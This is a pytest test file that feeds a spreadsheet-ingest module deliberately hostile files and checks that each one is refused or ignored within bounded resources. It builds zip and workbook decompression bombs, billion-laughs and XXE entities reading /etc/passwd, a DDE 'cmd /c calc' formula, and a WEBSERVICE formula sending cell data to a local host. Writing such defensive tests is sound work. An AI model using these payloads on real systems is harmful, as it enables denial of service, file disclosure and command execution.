"""Files made to do harm: refused or ignored, in bounded memory and time, nothing run and nothing fetched."""

from __future__ import annotations

import copy
import json
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter

ID = "320482199001011230"
HEAD = ["姓名", "身份证号", "供养方式", "基本生活标准"]
ROW = ["张三", ID, "集中", 1326.5]

READ = """
import json, resource, sys, time
from datetime import date
resource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))
resource.setrlimit(resource.RLIMIT_CPU, (120, 120))
from baoshen_audit.errors import InputError
from baoshen_audit.ingest.load import load
base, start = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
try:
    intake = load(sys.argv[1], month=date(2026, 6, 1))
    said, rows = "", sum(table.frame.height for table in intake.tables.values())
    names = [name for table in intake.tables.values() for name in table.frame["name"].to_list()]
except InputError as error:
    said, rows, names = str(error), 0, []
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps([said, rows, names[:3], (peak - base) >> 10, time.process_time() - start]))
"""


@pytest.fixture
def attempt(tmp_path: Path) -> Callable[..., tuple[str, int, list[str]]]:
    """Read a file in a process of its own, and hold its memory and time to a bound."""

    def _attempt(path: Path, *, megabytes: int, seconds: float = 20) -> tuple[str, int, list[str]]:
        run = subprocess.run(
            [sys.executable, "-c", READ, str(path)], capture_output=True, text=True, check=False, timeout=240
        )
        assert run.returncode == 0, run.stderr[-2000:]
        said, rows, names, used, spent = json.loads(run.stdout)
        assert used < megabytes
        assert spent < seconds
        return said, rows, names

    return _attempt


def write_book(path: Path, fill: Callable[[xlsxwriter.Workbook, object], None]) -> Path:
    book = xlsxwriter.Workbook(path, {"constant_memory": False})
    sheet = book.add_worksheet("名册")
    sheet.write_row(0, 0, HEAD)
    sheet.write_row(1, 0, ROW)
    fill(book, sheet)
    book.close()
    return path


def repack(path: Path, change: Callable[[str, bytes], bytes]) -> Path:
    with zipfile.ZipFile(path) as old:
        parts = {name: change(name, old.read(name)) for name in old.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return path


def bomb(path: Path, member: str, megabytes: int) -> Path:
    """An archive with one member of zeros."""
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as out,
        out.open(member, "w", force_zip64=True) as part,
    ):
        for _ in range(megabytes):
            part.write(b"0" * (1 << 20))
    return path


def test_a_bomb_in_a_zip(tmp_path, attempt):
    said, _, _ = attempt(bomb(tmp_path / "包.zip", "特困.csv", 128), megabytes=100)
    assert "大得不正常" in said
    assert list(tmp_path.iterdir()) == [tmp_path / "包.zip"]


def test_one_member_listed_a_hundred_times(tmp_path, attempt):
    content = "\n".join(str(number) for number in range(100_000))
    with zipfile.ZipFile(tmp_path / "包.zip", "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("0.csv", content)
        for number in range(1, 100):
            again = copy.copy(out.filelist[0])
            again.filename = again.orig_filename = f"{number}.csv"
            out.filelist.append(again)
    said, _, _ = attempt(tmp_path / "包.zip", megabytes=100)
    assert "已损坏" in said


def test_a_zip_that_lies_about_the_size_of_its_members(tmp_path, attempt):
    path = bomb(tmp_path / "包.zip", "特困.csv", 128)
    whole = path.read_bytes()
    for stated in ((128 << 20).to_bytes(8, "little"), (128 << 20).to_bytes(4, "little")):
        whole = whole.replace(stated, (9).to_bytes(len(stated), "little"))
    path.write_bytes(whole)
    said, _, _ = attempt(path, megabytes=100)
    assert "大得不正常" in said


def test_many_members(tmp_path, attempt):
    with zipfile.ZipFile(tmp_path / "包.zip", "w") as out:
        for number in range(6000):
            out.writestr(f"{number}.csv", "")
    said, _, _ = attempt(tmp_path / "包.zip", megabytes=200)
    assert "6000 个文件" in said


@pytest.mark.parametrize("part", ["xl/media/图.bin", "xl/worksheets/sheet9.xml"])
def test_a_bomb_in_a_workbook(tmp_path, attempt, part):
    said, rows, _ = attempt(bomb(write_book(tmp_path / "特困.xlsx", lambda *_: None), part, 300), megabytes=100)
    assert "大得不正常" in said
    assert rows == 0


def test_a_million_empty_rows(tmp_path, attempt):
    rows = "".join(
        f'<row r="{row}" ht="20"><c r="A{row}" s="1"/><c r="D{row}" s="1"/></row>' for row in range(3, 1_000_000)
    )

    def change(name: str, content: bytes) -> bytes:
        more = rows.encode() if name == "xl/worksheets/sheet1.xml" else b""
        return content.replace(b"</sheetData>", more + b"</sheetData>")

    path = repack(write_book(tmp_path / "特困.xlsx", lambda *_: None), change)
    said, read, names = attempt(path, megabytes=600, seconds=30)
    assert (said, read, names) == ("", 1, ["张三"])


def test_a_stray_cell_in_the_last_row(tmp_path, attempt):
    path = write_book(tmp_path / "特困.xlsx", lambda _, sheet: sheet.write(1_048_575, 3, " "))
    said, rows, names = attempt(path, megabytes=1200, seconds=40)
    assert (said, rows, names) == ("", 1, ["张三"])


def test_a_cell_in_the_far_corner(tmp_path, attempt):
    path = write_book(tmp_path / "特困.xlsx", lambda _, sheet: sheet.write(1_048_575, 16_383, "x"))
    said, _, _ = attempt(path, megabytes=100)
    assert "1048576 行 × 16384 列" in said


def test_the_far_corner_in_single_quotes(tmp_path, attempt):
    path = write_book(tmp_path / "特困.xlsx", lambda _, sheet: sheet.write(1_048_575, 16_383, "x"))
    repack(path, lambda _, content: content.replace(b'r="XFD1048576"', b"r = 'XFD1048576'"))
    said, _, _ = attempt(path, megabytes=100)
    assert "1048576 行 × 16384 列" in said


def test_an_open_document_that_repeats_everything(tmp_path, attempt):
    names = ["office", "table", "text"]
    spaces = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in names)
    row = (
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"'
        ' office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    )
    with zipfile.ZipFile(tmp_path / "特困.ods", "w") as out:
        out.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        out.writestr("META-INF/manifest.xml", "<manifest/>")
        out.writestr(
            "content.xml",
            f"<office:document-content {spaces}><office:body><office:spreadsheet><table:table table:name='n'>{row}"
            "</table:table></office:spreadsheet></office:body></office:document-content>",
        )
    said, _, _ = attempt(tmp_path / "特困.ods", megabytes=100)
    assert "1048576 行 × 16384 列" in said


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPE = f'<!DOCTYPE x [<!ENTITY l0 "哈"><!ENTITY f SYSTEM "file:///etc/passwd">{LAUGHS}]>'


@pytest.mark.parametrize("entity", ["&f;", "&l9;"])
@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_entities_in_a_workbook(tmp_path, attempt, part, entity):
    def change(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        head, tail = content.split(b"?>", 1)
        return head + b"?>" + DOCTYPE.encode() + tail.replace("张三".encode(), entity.encode())

    said, _, _ = attempt(repack(write_book(tmp_path / "特困.xlsx", lambda *_: None), change), megabytes=100)
    assert "DOCTYPE" in said


@pytest.mark.parametrize("entity", ["&f;", "&l9;"])
def test_entities_in_an_xml_spreadsheet(tmp_path, attempt, entity):
    path = tmp_path / "特困.xls"
    path.write_text(
        f'<?xml version="1.0"?>{DOCTYPE}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
        f"<Worksheet><Table><Row><Cell><Data>{entity}</Data></Cell></Row></Table></Worksheet></Workbook>",
        encoding="utf-8",
    )
    said, _, _ = attempt(path, megabytes=100)
    assert "DOCTYPE" in said


def test_an_xml_spreadsheet_with_a_cell_far_out(tmp_path, attempt):
    path = tmp_path / "特困.xls"
    cell = '<Row><Cell s:Index="16384"><Data>x</Data></Cell></Row>' * 3000
    path.write_text(
        '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        f'xmlns:s="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table>{cell}</Table></Worksheet></Workbook>'
    )
    said, _, _ = attempt(path, megabytes=600)
    assert "占满内存" in said


def test_a_web_page_of_wide_cells(tmp_path, attempt):
    path = tmp_path / "特困.xls"
    path.write_text("<table><tr>" + '<td colspan="1000" rowspan="65534">x' * 100_000)
    said, _, _ = attempt(path, megabytes=600)
    assert "占满内存" in said


def test_a_parquet_that_states_a_billion_rows(tmp_path, attempt):
    path = tmp_path / "特困.parquet"
    yes = pl.repeat(value=True, n=60_000_000, dtype=pl.Boolean, eager=True)
    pl.DataFrame([yes.alias(name) for name in ("姓名", "身份证号", "供养方式", "a", "b", "c", "d", "e")]).write_parquet(
        path
    )
    assert path.stat().st_size < 5_000_000
    said, _, _ = attempt(path, megabytes=300)
    assert "60000000 行" in said


def test_formulas_links_and_macros_are_not_followed(tmp_path, attempt):
    def fill(book, sheet):
        sheet.write_formula("A3", '=WEBSERVICE("http://127.0.0.1:9/"&B2)', None, "李四")
        sheet.write("B3", "320482196103050018")
        sheet.write_formula("D3", "=cmd|'/c calc'!A0", None, 2)
        sheet.write_url("C3", "external:c:\\x.xlsx", string="分散")

    path = write_book(tmp_path / "特困.xlsx", fill)
    with zipfile.ZipFile(path, "a") as out:
        out.writestr("xl/vbaProject.bin", zlib.compress(b"Shell"))
    said, rows, names = attempt(path.rename(tmp_path / "特困.xlsm"), megabytes=100)
    assert (said, rows, names) == ("", 2, ["张三", "李四"])
